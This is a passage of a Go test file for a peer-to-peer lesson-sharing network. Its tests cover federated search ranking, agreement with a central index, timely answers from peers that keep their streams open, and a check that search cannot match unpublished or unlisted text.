		sl := nodetest.SignAs(t, key, id, "", content, "public")
		sl.Publication.PublishedAt = time.Now().Add(-age).UnixMilli()
		return api.FedSearchHit{Key: sl.Key(), SignedLesson: sl, Trust: trust}
	}
	pq := mustParse(t, "cargo build")
	hits := []api.FedSearchHit{
		mk("a", "cargo build cargo build", 1, 0),
		mk("b", "cargo", 1, 0),
		mk("c", "unrelated text", 1, 0),
		mk("d", "cargo build cargo build", 0.25, 0),
	}
	got := fedsearch.Rank(hits, pq, 0, time.Now())
	var ids []string
	for _, h := range got {
		ids = append(ids, h.SignedLesson.Lesson.ID)
	}
	if want := []string{"a", "b", "d"}; !slices.Equal(ids, want) && !slices.Equal(ids, []string{"a", "d", "b"}) {
		t.Fatalf("order %v", ids)
	}
	// Freshness halves per half-life.
	hits = []api.FedSearchHit{mk("old", "cargo build", 1, 2*time.Hour), mk("new", "cargo build", 1, 0)}
	got = fedsearch.Rank(hits, pq, time.Hour, time.Now())
	if got[0].SignedLesson.Lesson.ID != "new" || got[1].Freshness > 0.26 || got[1].Freshness < 0.24 {
		t.Fatalf("freshness: %+v", got)
	}
	// A phrase must match in order.
	hits = []api.FedSearchHit{mk("p1", "build the cargo", 1, 0), mk("p2", "cargo build now", 1, 0)}
	got = fedsearch.Rank(hits, mustParse(t, `"cargo build"`), 0, time.Now())
	if len(got) != 1 || got[0].SignedLesson.Lesson.ID != "p2" {
		t.Fatalf("phrase: %d hits", len(got))
	}
}

func mustParse(t *testing.T, q string) store.ParsedQuery {
	t.Helper()
	pq, err := store.ParseQuery(q)
	if err != nil {
		t.Fatal(err)
	}
	return pq
}

// TestFederatedSearchMatchesCentralIndex: A asks B and C directly and D
// through B. Every node holds a few lessons that match the queries and
// many that do not. The federated top 10 is, in order, the top 10 of one
// store holding the union of the four nodes' public lessons, ranked by
// relevance × trust, ties by key. Scoring the candidates alone, as each
// node's or the candidates' own statistics would, ranks differently for
// some query: the statistics of the lessons that did not match count.
func TestFederatedSearchMatchesCentralIndex(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	a, b, c, d := nodetest.New(t, node.Config{}), nodetest.New(t, node.Config{}), nodetest.New(t, node.Config{}), nodetest.New(t, node.Config{})
	for _, p := range [][2]*node.Node{{a, b}, {b, a}, {a, c}, {c, a}, {b, d}, {d, b}} {
		trusts(t, p[0], p[1].ID())
	}
	nodetest.Connect(t, a, b)
	nodetest.Connect(t, a, c)
	nodetest.Connect(t, b, d)
	// a trusts d through b's vouch, fetched on connecting, at 0.5.
	nodetest.Eventually(t, "a trust path to d", func() bool { _, _, ok := a.Trust().Path(d.ID().String()); return ok })

	rng := rand.New(rand.NewPCG(4, 2))
	pool := strings.Fields("cargo build parallel crash memory sensor humidity drift borrow checker")
	filler := strings.Fields("kernel panic swap disk cache evict page fault network socket timeout retry backoff queue worker thread " +
		"lock mutex channel select goroutine heap stack frame pointer")
	words := func(pool []string, n int) string {
		w := make([]string, n)
		for i := range w {
			w[i] = pool[rng.IntN(len(pool))]
		}
		return strings.Join(w, " ")
	}
	trustOf := map[string]float64{}
	central, err := store.Open(store.Options{SweepInterval: -1})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { central.Close() })
	var recs []*protocol.Lesson
	keyOf := map[string]string{}
	for i, n := range []*node.Node{a, b, c, d} {
		trustOf[n.ID().String()] = []float64{1, 1, 1, 0.5}[i]
		// Few matching lessons per node (all are candidates: fewer than the
		// limit), and a number of others that vary per node, so that each
		// node's statistics differ from the union's.
		for j := range 4 + 10*i {
			content := words(filler, 5+rng.IntN(30))
			if j < 4 {
				content = words(pool, 1+rng.IntN(6)) + " " + words(filler, rng.IntN(20))
			}
			sl := nodetest.Publish(t, n, words(filler, 2), content, "public")
			l := sl.Lesson.Clone()
			l.Visibility = protocol.VisibilityPublic
			recs = append(recs, l)
			keyOf[l.ID] = sl.Key()
		}
	}
	// Not public: in no statistics.
	if _, _, err := b.Put(ctx, &protocol.Lesson{Type: "lesson", Title: "cargo", Content: "cargo build cargo build private"}); err != nil {
		t.Fatal(err)
	}
	if _, err := central.PutBatch(ctx, recs); err != nil {
		t.Fatal(err)
	}
	// The stores have settled: make their search statistics exact.
	for _, n := range []*node.Node{a, b, c, d} {
		if err := n.Store().RefreshSearchStats(ctx); err != nil {
			t.Fatal(err)
		}
	}

	differs := 0
	for _, q := range []string{"cargo build", "sensor humidity drift", "memory crash", "borrow checker parallel", "cargo memory sensor"} {
		res, err := a.SearchNetwork(ctx, api.FedSearchRequest{Query: q, Hops: 2, Limit: 10, Deadline: 10 * time.Second})
		if err != nil {
			t.Fatal(err)
		}
		if res.Truncated || res.Invalid+res.Revoked+res.Untrusted != 0 {
			t.Fatalf("%q: %+v", q, res)
		}
		ref, err := central.Search(ctx, store.Query{Text: q, Limit: store.MaxSearchLimit})
		if err != nil {
			t.Fatal(err)
		}
		type scored struct {
			key   string
			score float64
		}
		var want []scored
		for _, h := range ref.Hits {
			key := keyOf[h.ID]
			want = append(want, scored{key, h.Score * trustOf[key[strings.IndexByte(key, '@')+1:]]})
		}
		slices.SortFunc(want, func(x, y scored) int {
			if x.score != y.score {
				return cmp.Compare(y.score, x.score)
			}
			return strings.Compare(x.key, y.key)
		})
		var wantKeys []string
		for _, w := range want[:min(10, len(want))] {
			wantKeys = append(wantKeys, w.key)
		}
		if got := hitKeys(res); !slices.Equal(got, wantKeys) {
			t.Errorf("%q:\nfederated %v\ncentral   %v", q, got, wantKeys)
		}
		for i, h := range res.Results {
			if h.Score != want[i].score {
				t.Errorf("%q: %s scores %v, the central index %v", q, h.Key, h.Score, want[i].score)
			}
		}
		// The same candidates, scored under their own statistics only.
		var cands []api.FedSearchHit
		for _, w := range want {
			for _, n := range []*node.Node{a, b, c, d} {
				if sl, err := n.Store().Publication(ctx, w.key[:strings.IndexByte(w.key, '@')]); err == nil && sl.Key() == w.key {
					cands = append(cands, api.FedSearchHit{Key: w.key, SignedLesson: sl, Trust: trustOf[sl.Signature.NodeID]})
				}
			}
		}
		var local []string
		for _, h := range fedsearch.Rank(cands, mustParse(t, q), 0, time.Now())[:len(wantKeys)] {
			local = append(local, h.Key)
		}
		if !slices.Equal(local, wantKeys) {
			differs++
		}
	}
	if differs == 0 {
		t.Fatal("no query ranks differently under the candidates' own statistics: the test proves nothing")
	}
}

// TestFederatedSearchReturnsWhenAllAnswered: a peer that answers but keeps
// its stream open, directly and behind a forwarder, is not waited for once
// its answer is in: with a deadline far away, the answer comes back complete
// (not truncated), with both peers' lessons and the forwarder's statistics
// covering its peer's corpus.
func TestFederatedSearchReturnsWhenAllAnswered(t *testing.T) {
	t.Parallel()
	a, b := nodetest.New(t, node.Config{}), nodetest.New(t, node.Config{})
	nodetest.Connect(t, a, b)
	trusts(t, a, b.ID())
	trusts(t, b, a.ID())
	hold := make(chan struct{})
	t.Cleanup(func() { close(hold) })
	key := nodetest.NewKey(t)
	lingering := func(id string) host.Host {
		h := nodetest.Host(t)
		sl := nodetest.SignAs(t, key, id, "Sensor drift", "humidity sensors drift after a year "+id, "public")
		h.SetStreamHandler(libp2pproto.ID(protocol.ProtocolSearch), func(s network.Stream) {
			defer s.Reset()
			b, err := frame.Read(bufio.NewReader(s), protocol.MaxSearchRequestSize)
			if err != nil {
				return
			}
			req, err := protocol.DecodeSearchRequest(b)
			if err != nil {
				return
			}
			stats := &protocol.SearchStats{Docs: 7, Tokens: 70, Vocab: []uint32{1, 2, 3}, DocFreq: map[string]int64{"humid": 1, "sensor": 1}}
			out, _ := (&protocol.SearchResponse{Type: protocol.MsgSearchResponse, RequestID: req.RequestID,
				Results: []protocol.SearchResult{{SignedLesson: sl}}, Stats: stats}).Encode()
			_ = frame.Write(s, out)
			<-hold // answered, but never closes
		})
		return h
	}
	direct, behind := lingering("direct"), lingering("behind")
	nodetest.ConnectHost(t, direct, a)
	nodetest.ConnectHost(t, behind, b)
	trusts(t, a, direct.ID())
	trusts(t, b, behind.ID())
	trusts(t, a, nodetest.PeerOf(t, key))
	own := nodetest.Publish(t, b, "Humidity", "humidity sensors need calibration", "public")

	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "humidity sensors", Hops: 2, Deadline: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if res.Truncated || len(res.Results) != 3 || findHit(res, own.Key()) == nil {
		t.Fatalf("truncated %v, results %v", res.Truncated, hitKeys(res))
	}

	// B's own answer carries its statistics and those of the peer behind it.
	req := encodeReq(t, &protocol.SearchRequest{Query: "humidity sensors", RequestID: "stats-1", Origin: a.ID().String(), TTL: 2, Hops: 2, DeadlineMs: 60000})
	client := nodetest.Host(t)
	nodetest.ConnectHost(t, client, b)
	resp := rawSearch(t, client, b.ID(), req)
	if resp.Error != nil || resp.Truncated || resp.Stats == nil {
		t.Fatalf("%+v", resp)
	}
	st := resp.Stats
	if st.Docs != 7+1 || st.DocFreq["humid"] != 2 || st.DocFreq["sensor"] != 2 || len(st.DocFreq) != 2 || st.Cardinality() < 3+4 {
		t.Fatalf("stats %+v, want B's one lesson and the 7 of the peer behind it", st)
	}
}

// TestSearchNeverMatchesUnsharedText: the index holds a record's current
// text, so a record edited after it was published, or narrowed to unlisted,
// must not be found on behalf of its publication: anyone asking over
// /mesh/search could otherwise probe for words the node never shared. The
// requests are raw, as a stranger's would be (FederatedSearch re-scores what
// it gets against the signed text and would hide the leak).
func TestSearchNeverMatchesUnsharedText(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	b := nodetest.New(t, node.Config{})
	client := nodetest.Host(t)
	nodetest.ConnectHost(t, client, b)

	edited := nodetest.Publish(t, b, "Okapi stripes", "okapi stripes are on the legs", "public")
	narrowed := nodetest.Publish(t, b, "Giraffe spots", "giraffe spots are unique", "public")
	kept := nodetest.Publish(t, b, "Zebra stripes", "zebra stripes confuse flies", "public")
	seq := 0
	search := func(q string) []string {
		t.Helper()
		seq++
		req := encodeReq(t, &protocol.SearchRequest{Query: q, RequestID: "probe-" + strconv.Itoa(seq), Origin: client.ID().String(), TTL: 1, Hops: 1})
		resp := rawSearch(t, client, b.ID(), req)
		if resp.Error != nil {
			t.Fatalf("%q: %+v", q, resp.Error)
		}
		var keys []string
		for _, r := range resp.Results {
			keys = append(keys, r.SignedLesson.Key())
		}
		return keys
	}
	for _, sl := range []*protocol.SignedLesson{edited, narrowed, kept} {
		if got := search(strings.Fields(sl.Lesson.Title)[0]); !slices.Equal(got, []string{sl.Key()}) {
			t.Fatalf("before the edits, %q: %v", sl.Lesson.Title, got)
		}
	}

	rec := edited.Lesson.Clone()
	rec.Content = "okapi stripes; the wifi password is hunter2"
	rec.Visibility = protocol.VisibilityPublic // still public, but the edit is not published:
	// the node publishes a record stored public, the store does not (and
	// a record is left so when publishing fails)
	if _, _, err := b.Store().Put(ctx, rec); err != nil {
		t.Fatal(err)
	}
	rec = narrowed.Lesson.Clone()
	rec.Visibility = protocol.VisibilityUnlisted
	if _, _, err := b.Put(ctx, rec); err != nil {
		t.Fatal(err)
	}
	if got := search("password"); len(got) != 0 {
		t.Fatalf("an unpublished edit was matched: %v", got)
	}
	if got := search("giraffe"); len(got) != 0 {
		t.Fatalf("a record narrowed to unlisted was found: %v", got)
	}
	if got := search("zebra"); !slices.Equal(got, []string{kept.Key()}) {
		t.Fatalf("the untouched lesson: %v", got)
	}
	// Republished, the edit is shared and found.
	if _, err := b.Publish(ctx, edited.Lesson.ID, api.PublishOptions{Visibility: protocol.VisibilityPublic}); err != nil {
		t.Fatal(err)
	}
	if got := search("password"); len(got) != 1 || got[0] != edited.Key() {
		t.Fatalf("after republishing: %v", got)
	}
}
